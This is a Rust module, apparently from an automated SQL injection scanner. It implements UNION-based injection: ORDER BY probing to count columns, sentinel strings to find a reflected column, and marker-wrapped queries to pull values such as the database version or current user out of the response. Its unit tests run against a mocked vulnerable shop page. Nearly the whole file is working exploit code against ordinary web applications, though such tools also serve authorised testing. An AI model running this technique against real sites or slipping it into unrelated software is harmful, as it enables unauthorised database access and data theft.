//! UNION query SQL injection
//!
//! Column count comes from an `ORDER BY n` binary search, the usable column
//! from a reflected sentinel literal. Both are rediscovered on every call.

use crate::http::response::HttpResponse;
use crate::sqli::core::boundary::{self, Boundary, Payload};
use crate::sqli::core::dialect::Dialect;
use crate::sqli::core::settings::{
    NULL, ORDER_BY_ERROR_PATTERNS, SENTINEL_PREFIX, UNION_ERROR_LENGTH_RATIO, UNION_MARKER,
    UNION_MAX_COLUMNS,
};
use crate::sqli::error::{Result, SqliError};
use crate::sqli::request::Prober;
use crate::sqli::techniques::{
    inconclusive, DetectionResult, ExtractionRequest, ExtractionResult, InjectionRequest,
    Technique,
};
use async_trait::async_trait;
use rand::Rng;
use tokio_util::sync::CancellationToken;

pub const NAME: &str = "union-based";

/// Column count confirmed and a sentinel reflected
const CONFIDENCE: f32 = 0.95;

#[derive(Debug, Clone)]
pub struct UnionBased {
    length_ratio: f64,
    max_columns: usize,
    signatures: Vec<String>,
}

impl Default for UnionBased {
    fn default() -> Self {
        Self::new(
            UNION_ERROR_LENGTH_RATIO,
            UNION_MAX_COLUMNS,
            ORDER_BY_ERROR_PATTERNS.iter().map(|s| s.to_string()).collect(),
        )
    }
}

/// Working UNION layout for one parameter
#[derive(Debug, Clone)]
pub struct UnionVector {
    pub boundary: &'static Boundary,
    pub columns: usize,
    /// 1-based
    pub position: usize,
    pub payload: Payload,
}

fn sentinel() -> String {
    let suffix: u32 = rand::thread_rng().gen();
    format!("{}{:08x}", SENTINEL_PREFIX, suffix)
}

/// Text strictly between the first two markers past the part of `body`
/// that still matches the baseline page
fn between_markers<'a>(body: &'a str, baseline: &str) -> Option<&'a str> {
    let mut skip = body
        .char_indices()
        .zip(baseline.chars())
        .take_while(|((_, a), b)| a == b)
        .last()
        .map_or(0, |((i, c), _)| i + c.len_utf8());
    // the opening marker itself may coincide with the baseline
    if body[..skip].ends_with(UNION_MARKER) {
        skip -= UNION_MARKER.len_utf8();
    }

    let start = body[skip..].find(UNION_MARKER)? + skip + UNION_MARKER.len_utf8();
    let end = body[start..].find(UNION_MARKER)? + start;
    Some(&body[start..end])
}

impl UnionBased {
    pub fn new(length_ratio: f64, max_columns: usize, signatures: Vec<String>) -> Self {
        Self {
            length_ratio,
            max_columns: max_columns.max(1),
            signatures: signatures.into_iter().map(|s| s.to_lowercase()).collect(),
        }
    }

    /// Much shorter than the baseline, or showing an error keyword the baseline lacks
    pub fn is_order_by_error(&self, resp: &HttpResponse, baseline: &str) -> bool {
        if (resp.body_len as f64) < baseline.len() as f64 * self.length_ratio {
            return true;
        }
        let body = resp.body_text().to_lowercase();
        let baseline = baseline.to_lowercase();
        self.signatures
            .iter()
            .any(|sig| body.contains(sig.as_str()) && !baseline.contains(sig.as_str()))
    }

    /// `None` when the probe was inconclusive
    async fn order_by_errors(
        &self,
        prober: &Prober<'_>,
        baseline: &str,
        boundary: &Boundary,
        n: usize,
    ) -> Result<Option<bool>> {
        let payload = boundary.payload(&prober.parameter().value, format!("ORDER BY {}", n));
        Ok(inconclusive(prober.send(&payload).await)?.map(|resp| self.is_order_by_error(&resp, baseline)))
    }

    /// Boundary and column count from `ORDER BY` probing
    pub async fn column_count(
        &self,
        prober: &Prober<'_>,
        baseline: &str,
    ) -> Result<Option<(&'static Boundary, usize)>> {
        let ceiling = self.max_columns + 1;

        for candidate in boundary::candidates(prober.parameter().param_type) {
            prober.check_cancelled()?;
            if self.order_by_errors(prober, baseline, candidate, 1).await? != Some(false) {
                continue;
            }
            // Without an upper error every n would look valid
            if self.order_by_errors(prober, baseline, candidate, ceiling).await? != Some(true) {
                continue;
            }

            let (mut ok, mut err) = (1, ceiling);
            while err - ok > 1 {
                let mid = (ok + err) / 2;
                match self.order_by_errors(prober, baseline, candidate, mid).await? {
                    Some(false) => ok = mid,
                    Some(true) => err = mid,
                    None => {
                        return Err(SqliError::NotInjectable(format!(
                            "ORDER BY {} probe failed",
                            mid
                        )))
                    }
                }
            }

            tracing::debug!(
                param = %prober.parameter().name,
                "{} columns with prefix {:?}",
                ok,
                candidate.prefix
            );
            return Ok(Some((candidate, ok)));
        }
        Ok(None)
    }

    fn select(&self, dialect: &dyn Dialect, columns: usize, position: usize, expr: &str) -> String {
        let list = (1..=columns)
            .map(|i| if i == position { expr } else { NULL })
            .collect::<Vec<_>>()
            .join(",");
        match dialect.from_dummy() {
            Some(table) => format!("UNION ALL SELECT {} FROM {}", list, table),
            None => format!("UNION ALL SELECT {}", list),
        }
    }

    /// First column that reflects a sentinel literal
    async fn string_column(
        &self,
        prober: &Prober<'_>,
        dialect: &dyn Dialect,
        boundary: &'static Boundary,
        columns: usize,
    ) -> Result<Option<UnionVector>> {
        let original = &prober.parameter().value;
        for position in 1..=columns {
            prober.check_cancelled()?;
            let marker = sentinel();
            let clause = self.select(dialect, columns, position, &dialect.quote_string(&marker));
            let payload = boundary.payload(original, clause);
            if let Some(resp) = inconclusive(prober.send(&payload).await)? {
                if resp.body_text().contains(&marker) {
                    return Ok(Some(UnionVector {
                        boundary,
                        columns,
                        position,
                        payload,
                    }));
                }
            }
        }
        Ok(None)
    }

    pub async fn discover(
        &self,
        prober: &Prober<'_>,
        dialect: &dyn Dialect,
        baseline: &str,
    ) -> Result<Option<UnionVector>> {
        let (boundary, columns) = match self.column_count(prober, baseline).await? {
            Some(found) => found,
            None => return Ok(None),
        };
        self.string_column(prober, dialect, boundary, columns).await
    }
}

#[async_trait]
impl Technique for UnionBased {
    fn name(&self) -> &'static str {
        NAME
    }

    fn priority(&self) -> u8 {
        4
    }

    async fn detect(&self, cancel: &CancellationToken, req: &InjectionRequest) -> Result<DetectionResult> {
        let prober = req.prober(cancel);
        let baseline = req.baseline_text();

        match self.discover(&prober, req.dialect(), &baseline).await {
            Ok(Some(vector)) => {
                let evidence = format!(
                    "UNION query with {} columns, column {} reflects strings (prefix {:?})",
                    vector.columns, vector.position, vector.boundary.prefix
                );
                Ok(DetectionResult::positive(NAME, CONFIDENCE, vector.payload, evidence))
            }
            Ok(None) => Ok(DetectionResult::negative(NAME)),
            Err(SqliError::NotInjectable(reason)) => {
                tracing::debug!(param = %req.parameter.name, "{}", reason);
                Ok(DetectionResult::negative(NAME))
            }
            Err(err) => Err(err),
        }
    }

    async fn extract(&self, cancel: &CancellationToken, req: &ExtractionRequest) -> Result<ExtractionResult> {
        let injection = &req.injection;
        let prober = injection.prober(cancel);
        let baseline = injection.baseline_text();
        let dialect = injection.dialect();

        let vector = self
            .discover(&prober, dialect, &baseline)
            .await?
            .ok_or_else(|| {
                SqliError::NotInjectable(format!(
                    "no UNION layout for {}",
                    injection.parameter.name
                ))
            })?;

        let clause = self.select(
            dialect,
            vector.columns,
            vector.position,
            &dialect.marker_wrap(&req.query),
        );
        let payload = vector.boundary.payload(&injection.parameter.value, clause);

        let resp = match prober.send(&payload).await {
            Ok(resp) => resp,
            Err(SqliError::Cancelled) => return Err(SqliError::Cancelled),
            Err(err) => {
                return Ok(ExtractionResult::interrupted(
                    String::new(),
                    prober.requests(),
                    SqliError::partial(0, err),
                ))
            }
        };

        let body = resp.body_text();
        match between_markers(&body, &baseline) {
            Some(value) => Ok(ExtractionResult::complete(value.to_string(), prober.requests())),
            None => Ok(ExtractionResult::interrupted(
                String::new(),
                prober.requests(),
                SqliError::partial(
                    0,
                    SqliError::NotInjectable("markers missing from UNION response".to_string()),
                ),
            )),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::mock::{page, MockTransport};
    use crate::sqli::core::{dialect, BOUNDARIES};
    use crate::sqli::techniques::testing::{extraction, injection};
    use std::sync::Arc;

    const BASE: &str = "<html><table><tr><td>7</td><td>Blue mug</td><td>In stock</td></tr></table><footer>shop</footer></html>";

    /// Backend selecting `columns` columns, the last of which is rendered as text
    fn table(columns: usize, secret: &'static str) -> Arc<MockTransport> {
        table_with("", BASE, columns, secret)
    }

    /// Same, reachable only through `prefix` and rendering `base`
    fn table_with(
        prefix: &'static str,
        base: &'static str,
        columns: usize,
        secret: &'static str,
    ) -> Arc<MockTransport> {
        let opening = format!("7{} ", prefix);
        Arc::new(MockTransport::on_query("id", move |v| {
            if v == "7" {
                return page(base);
            }
            let clause = match v.strip_prefix(opening.as_str()).and_then(|r| r.strip_suffix("-- -")) {
                Some(clause) => clause,
                None => return page("syntax error"),
            };
            if let Some(n) = clause.strip_prefix("ORDER BY ") {
                let n: usize = n.parse().unwrap();
                return if n <= columns {
                    page(base)
                } else {
                    page(format!("{}Unknown column '{}' in 'order clause'", base, n))
                };
            }
            if let Some(list) = clause.strip_prefix("UNION ALL SELECT ") {
                let nulls = "NULL,".repeat(columns - 1);
                let last = match list.strip_prefix(&nulls) {
                    Some(last) if !last.starts_with("NULL") => last,
                    _ => return page(base),
                };
                if let Some(literal) = last.strip_prefix('\'').and_then(|l| l.strip_suffix('\'')) {
                    return page(format!("{}<td>{}</td>", base, literal));
                }
                if last.starts_with("CONCAT(CHAR(126),") {
                    return page(format!("{}<td>~{}~</td>", base, secret));
                }
            }
            page("syntax error")
        }))
    }

    #[tokio::test]
    async fn test_two_column_scenario() {
        let req = injection(table(2, ""), BASE, "");
        let result = UnionBased::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();

        assert!(result.injectable);
        assert!(result.evidence.contains("2 columns"));
        assert!(result.evidence.contains("column 2"));
    }

    #[tokio::test]
    async fn test_column_count_across_range() {
        let technique = UnionBased::default();
        let cancel = CancellationToken::new();
        for columns in 1..=UNION_MAX_COLUMNS {
            let req = injection(table(columns, ""), BASE, "");
            let prober = req.prober(&cancel);
            let (boundary, found) = technique.column_count(&prober, BASE).await.unwrap().unwrap();
            assert_eq!(found, columns);
            assert_eq!(boundary.prefix, "");
        }
    }

    #[tokio::test]
    async fn test_every_order_by_errors() {
        let transport = Arc::new(MockTransport::on_query("id", |v| {
            if v == "7" {
                page(BASE)
            } else {
                page("error")
            }
        }));
        let req = injection(transport, BASE, "");
        let result = UnionBased::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();
        assert!(!result.injectable);
    }

    #[tokio::test]
    async fn test_quoted_boundary_when_bare_order_by_always_errors() {
        let req = injection(table_with("'", BASE, 3, ""), BASE, "");
        let cancel = CancellationToken::new();
        let technique = UnionBased::default();

        let prober = req.prober(&cancel);
        assert_eq!(
            technique.order_by_errors(&prober, BASE, &BOUNDARIES[0], 1).await.unwrap(),
            Some(true)
        );

        let result = technique.detect(&cancel, &req).await.unwrap();
        assert!(result.injectable);
        assert!(result.evidence.contains("3 columns"));
        assert!(result.evidence.contains("prefix \"'\""));
    }

    #[tokio::test]
    async fn test_same_order_by_payload_classifies_identically() {
        let req = injection(table(4, ""), BASE, "");
        let cancel = CancellationToken::new();
        let prober = req.prober(&cancel);
        let technique = UnionBased::default();

        for candidate in BOUNDARIES {
            for n in [1, 4, 5] {
                let first = technique.order_by_errors(&prober, BASE, candidate, n).await.unwrap();
                let second = technique.order_by_errors(&prober, BASE, candidate, n).await.unwrap();
                assert_eq!(first, second);
            }
        }
    }

    #[tokio::test]
    async fn test_static_page_never_adopts_boundary() {
        let req = injection(Arc::new(MockTransport::fixed(BASE)), BASE, "");
        let result = UnionBased::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();
        assert!(!result.injectable);
    }

    #[tokio::test]
    async fn test_extract_between_markers() {
        let req = extraction(injection(table(3, "8.0.32"), BASE, "mysql"), "@@version");
        let result = UnionBased::default()
            .extract(&CancellationToken::new(), &req)
            .await
            .unwrap();
        assert_eq!(result.value, "8.0.32");
        assert!(!result.partial);
    }

    #[tokio::test]
    async fn test_extract_ignores_markers_already_on_the_page() {
        const TILDE_BASE: &str =
            "<html><a href=\"/~admin/\">staff</a><table><tr><td>7</td><td>Blue mug</td></tr></table><footer>~ shop ~</footer></html>";
        let req = extraction(
            injection(table_with("", TILDE_BASE, 2, "root@localhost"), TILDE_BASE, "mysql"),
            "CURRENT_USER()",
        );
        let result = UnionBased::default()
            .extract(&CancellationToken::new(), &req)
            .await
            .unwrap();
        assert_eq!(result.value, "root@localhost");
        assert!(!result.partial);
    }

    #[test]
    fn test_order_by_error_signals() {
        let technique = UnionBased::default();
        let long = page(BASE);
        assert!(!technique.is_order_by_error(&long, BASE));
        assert!(technique.is_order_by_error(&page("oops"), BASE));
        let keyword = page(format!("{} Unknown column '9' in 'order clause'", BASE));
        assert!(technique.is_order_by_error(&keyword, BASE));
    }

    #[test]
    fn test_select_list() {
        let technique = UnionBased::default();
        assert_eq!(
            technique.select(dialect::resolve("mysql"), 3, 2, "'x'"),
            "UNION ALL SELECT NULL,'x',NULL"
        );
        assert_eq!(
            technique.select(dialect::resolve("oracle"), 1, 1, "'x'"),
            "UNION ALL SELECT 'x' FROM DUAL"
        );
    }

    #[test]
    fn test_between_markers() {
        assert_eq!(between_markers("a~root@localhost~b~c", ""), Some("root@localhost"));
        assert_eq!(between_markers("no markers", ""), None);

        let baseline = "<p>~home</p>";
        assert_eq!(between_markers("<p>~home</p><td>~db1~</td>", baseline), Some("db1"));
        // the row replaces the baseline right at a marker
        assert_eq!(between_markers("<p>~db1~</p>", "<p>~home</p>"), Some("db1"));
    }
}
